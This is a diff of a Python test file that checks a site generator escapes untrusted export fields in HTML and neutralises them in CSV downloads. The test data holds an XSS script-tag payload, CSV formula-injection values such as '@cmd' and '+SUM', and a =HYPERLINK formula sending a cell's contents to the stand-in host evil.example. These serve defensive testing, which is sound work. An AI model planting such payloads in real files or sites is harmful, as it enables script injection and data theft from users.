@@ -1,13 +1,14 @@
 """Export fields are untrusted: escaped in HTML, neutralised in CSV downloads."""
+
 from __future__ import annotations
 
 import csv
 import io
 import re
 
-from generator.site.tables import neutralise
-
 from conftest import minimal_config
+
+from generator.site.tables import neutralise
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -15,9 +16,12 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 def hostile_site(site):
     site.file("customers.csv", f'id,name\nC1,"Evil {SCRIPT} Ltd"\n')
-    site.file("orders.csv", "order,customer,date,sku,qty,price,po,notes\n"
-                            f'A-1,C1,2026-05-01,"{FORMULA.replace(chr(34), chr(34) * 2)}",1,2,"+SUM(1,2)","{SCRIPT}"\n'
-                            f'"A-2 {SCRIPT}",C1,2026-05-02,@cmd,1,2,-3+3,ok\n')
+    site.file(
+        "orders.csv",
+        "order,customer,date,sku,qty,price,po,notes\n"
+        f'A-1,C1,2026-05-01,"{FORMULA.replace(chr(34), chr(34) * 2)}",1,2,"+SUM(1,2)","{SCRIPT}"\n'
+        f'"A-2 {SCRIPT}",C1,2026-05-02,@cmd,1,2,-3+3,ok\n',
+    )
     raw = minimal_config()
     raw["exports"]["orders"]["columns"].update(po_number="po", notes="notes")
     result = site.build(raw)
@@ -32,7 +36,9 @@ def test_html_escapes_export_fields(site):
     for page in pages:
         text = page.read_text()
         assert SCRIPT not in text, page.name
-        assert "<script>" not in re.sub(r'<script src="\.\./_static/lists\.[0-9a-f]{10}\.js" integrity="[^"]+" defer></script>', "", text)
+        assert "<script>" not in re.sub(
+            r'<script src="\.\./_static/lists\.[0-9a-f]{10}\.js" integrity="[^"]+" defer></script>', "", text
+        )
     assert "Evil &lt;script&gt;alert(1)&lt;/script&gt; Ltd" in (portal / "index.html").read_text()
     detail = next(p for p in pages if p.name.startswith("order-A-2"))
     assert "A-2 &lt;script&gt;" in detail.read_text()
